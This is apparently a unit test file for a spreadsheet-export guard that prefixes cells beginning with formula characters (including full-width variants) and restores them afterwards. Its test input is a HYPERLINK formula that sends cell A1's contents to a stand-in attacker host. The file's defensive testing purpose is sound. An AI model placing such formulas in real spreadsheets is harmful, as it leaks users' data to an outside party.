import { neutralizeFormula, restoreFormulaText } from './spreadsheet-text';

const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

describe('neutralizeFormula', () => {
  it.each(PREFIXES.map((p) => [JSON.stringify(p), p]))('prefixes text starting with %s', (_label, p) => {
    const text = `${p}HYPERLINK("https://evil.example/?"&A1,"開く")`;
    expect(neutralizeFormula(text)).toBe(`'${text}`);
    expect(restoreFormulaText(neutralizeFormula(text))).toBe(text);
  });

  it('leaves other text alone, including the same characters later on and an apostrophe already there', () => {
    for (const text of ['', '東和精密', 'a=b', ' =1+1', '1-1', "'plain", '＝'.slice(1), '№1']) {
      expect(neutralizeFormula(text)).toBe(text);
      expect(restoreFormulaText(text)).toBe(text);
    }
    expect(restoreFormulaText("'=")).toBe('=');
    expect(restoreFormulaText("''=1")).toBe("''=1");
  });
});
